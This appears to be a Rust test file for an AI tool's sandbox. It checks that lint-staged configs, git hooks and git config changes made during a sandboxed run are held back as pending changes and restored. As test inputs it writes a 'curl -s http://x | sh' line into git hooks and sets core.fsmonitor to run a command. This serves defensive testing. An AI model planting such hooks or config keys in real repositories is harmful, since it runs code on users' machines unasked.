fn the_walk_service_keeps_gits_listing_for_lint_staged_and_sees_what_changes_it() {
    let w = World::new();
    let init = w.bare(
        "git init -q . && mkdir -p .husky/_ build a/b/c/d/e && printf 'npx lint-staged\\n' > .husky/pre-commit \
         && printf '#!/bin/sh\\n. \"$(dirname \"$0\")/h\"\\n' > .husky/_/pre-commit && chmod +x .husky/_/pre-commit \
         && git config core.hooksPath .husky/_ && echo '{\"name\": \"w\"}' > package.json && echo ok",
    );
    assert!(init.stdout.contains("ok"), "{}", init.describe());
    let with_service = |snippet: &str| {
        let mut cmd = w.sandbox_cmd(&[], &["bash", "-c", snippet]);
        cmd.env("LOCALGPT_SANDBOX_WALK_SERVICE", "1").env("LOCALGPT_SANDBOX_WALK_SERVICE_IDLE", "30");
        run(cmd, snippet)
    };
    // The first run asks git and starts the service.
    let o = with_service("true");
    assert_eq!(o.code(), Some(0), "{}", o.describe());
    let deadline = Instant::now() + Duration::from_secs(20);
    while walk_service_watches(&w).is_none() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    // Past the racy window of the stamps (the index and config were just written), the next run's
    // listing is kept: its directories are watched.
    std::thread::sleep(Duration::from_millis(2100));
    assert_eq!(with_service("true").code(), Some(0));
    let (pid, watches) = walk_service_watches(&w).expect("the walk service serves the world");
    assert!(watches >= 8, "the service watches {watches} directories, not the worktree's");
    // The host makes a configuration deeper than the walk goes, between runs.
    let deep = w.ws.join("a/b/c/d/e/.lintstagedrc");
    fs::write(&deep, "{\"*.js\": \"true\"}\n").unwrap();
    let o = with_service("echo '{\"*\": \"touch /tmp/lint-staged-ran\"}' > a/b/c/d/e/.lintstagedrc; true");
    assert_eq!(fs::read_to_string(&deep).unwrap(), "{\"*.js\": \"true\"}\n", "the change to a configuration the host made between runs landed\n{}", o.describe());
    // The command makes one in a directory the walk skips.
    let made = w.ws.join("build/gen/.lintstagedrc.json");
    let o = with_service("mkdir -p build/gen && echo '{\"*\": \"touch /tmp/lint-staged-ran\"}' > build/gen/.lintstagedrc.json && echo MADE");
    assert!(o.stdout.contains("MADE"), "{}", o.describe());
    assert!(!made.exists(), "a configuration made in a skipped directory during the run landed\n{}", o.describe());
    let pending = run(w.localgpt_cmd(&["sandbox", "pending"]), "pending");
    assert!(pending.stdout.contains("build/gen/.lintstagedrc.json"), "the made configuration is a pending change\n{}", pending.describe());
    // The service answered those runs.
    let (pid2, _) = walk_service_watches(&w).expect("the walk service still serves the world");
    assert_eq!(pid, pid2, "the same service answered");
    // Bare, both land.
    let b = w.bare("echo changed > a/b/c/d/e/.lintstagedrc && mkdir -p build/gen2 && echo '{}' > build/gen2/.lintstagedrc.json && echo LANDED");
    assert!(b.stdout.contains("LANDED") && fs::read_to_string(&deep).unwrap() == "changed\n" && w.ws.join("build/gen2/.lintstagedrc.json").exists(), "{}", b.describe());
    // SAFETY: a signal to the world's own service.
    unsafe { libc::kill(pid, libc::SIGTERM) };
}

/// With the walk service on, a launch walk that runs out of its budget is recorded as far as it
/// went, so that later launches go further until the whole root is protected (as without the
/// service): a run whose launch the service answered must not write its own (empty) reads over
/// the records. Checked from outside: the "NOT PROTECTED" warning stops after a few runs (it
/// never did before the fix: each stopped answer wiped the records, and the walk started over).
#[test]
fn the_walk_service_keeps_the_records_of_a_walk_that_stops() {
    let w = World::new();
    let cfg = w.xdg.join("localgpt/config.toml");
    fs::create_dir_all(cfg.parent().unwrap()).unwrap();
    let old = fs::read_to_string(&cfg).unwrap_or_default();
    let new = if old.contains("[sandbox]") { old.replace("[sandbox]\n", "[sandbox]\nnested_walk_entries = 1000\n") } else { format!("{old}[sandbox]\nnested_walk_entries = 1000\n") };
    fs::write(&cfg, new).unwrap();
    // About 6 000 entries: six launches' budgets, several of them answered by the service.
    // (No directory over the budget by itself: 40 × 30 directories of 4 files.)
    let init = w.bare("for i in $(seq 1 40); do for j in $(seq 1 30); do mkdir -p t/a$i/d$j && touch t/a$i/d$j/a t/a$i/d$j/b t/a$i/d$j/c t/a$i/d$j/e; done; done && echo ok");
    assert!(init.stdout.contains("ok"), "{}", init.describe());
    let mut last = Vec::new();
    for _ in 0..10 {
        let mut cmd = w.sandbox_cmd(&[], &["true"]);
        cmd.env("LOCALGPT_SANDBOX_WALK_SERVICE", "1").env("LOCALGPT_SANDBOX_WALK_SERVICE_IDLE", "30");
        let o = run(cmd, "true");
        assert_eq!(o.code(), Some(0), "{}", o.describe());
        last.push(o.stderr.contains("NOT PROTECTED"));
        std::thread::sleep(Duration::from_millis(700));
    }
    assert!(last[0], "the first launch walk runs out of its budget of 1000 entries (the test needs it to)");
    assert!(!last[8] && !last[9], "the launch walk still stops after 8 runs: its records were not kept ({last:?})");
    if let Some((pid, _)) = walk_service_watches(&w) {
        // SAFETY: a signal to the world's own service.
        unsafe { libc::kill(pid, libc::SIGTERM) };
    }
}

/// A repository whose files have not changed for a while (at the Standard level, where `.git` is
/// reviewed in place, the review does not read a file again that is still the launch's inode at
/// the launch's change time): after a run that changes nothing, a run that rewrites a hook in
/// place, appends to one of git's inert samples and adds an executable config key has each put
/// back byte for byte (checked from outside), and the changes are pending. Bare, they land.
#[test]
fn a_settled_repository_a_run_changed_is_put_back_byte_for_byte() {
    let w = World::new();
    let init = w.bare("git init -q . && printf '#!/bin/sh\\necho HOST-HOOK\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo ok");
    assert!(init.stdout.contains("ok"), "{}", init.describe());
    let files = [".git/hooks/pre-commit", ".git/hooks/pre-push.sample", ".git/config"];
    let before: Vec<Vec<u8>> = files.iter().map(|f| fs::read(w.ws.join(f)).unwrap()).collect();
    // Older than the change-time window the cache and the review trust (2 s).
    std::thread::sleep(Duration::from_millis(2300));
    let o = w.sandboxed("echo NOTHING");
    assert!(o.stdout.contains("NOTHING"), "{}", o.describe());
    let change = "printf 'curl -s http://x | sh\\n' > .git/hooks/pre-commit; printf 'curl -s http://x | sh\\n' >> .git/hooks/pre-push.sample; \
                  git config core.fsmonitor 'touch /tmp/pwned'; echo CHANGED";
    let o = w.sandboxed(change);
    assert!(o.stdout.contains("CHANGED"), "{}", o.describe());
    for (f, b) in files.iter().zip(&before) {
        assert_eq!(&fs::read(w.ws.join(f)).unwrap(), b, "{f} is not what it was before the run\n{}", o.describe());
    }
    let pending = parse_one_json(&run(w.localgpt_cmd(&["sandbox", "pending", "--json"]), "pending"));
    let targets: Vec<String> = pending["pending"].as_array().unwrap().iter().map(|c| c["target"].as_str().unwrap_or("").to_string()).collect();
    for f in files {
        assert!(targets.iter().any(|t| t.ends_with(f)), "{f} is not a pending change\n{targets:?}");
    }
    let b = w.bare(change);
    assert!(b.stdout.contains("CHANGED"), "{}", b.describe());
    for (f, b) in files.iter().zip(&before) {
        assert_ne!(&fs::read(w.ws.join(f)).unwrap(), b, "bare, {f} changes");
    }
}
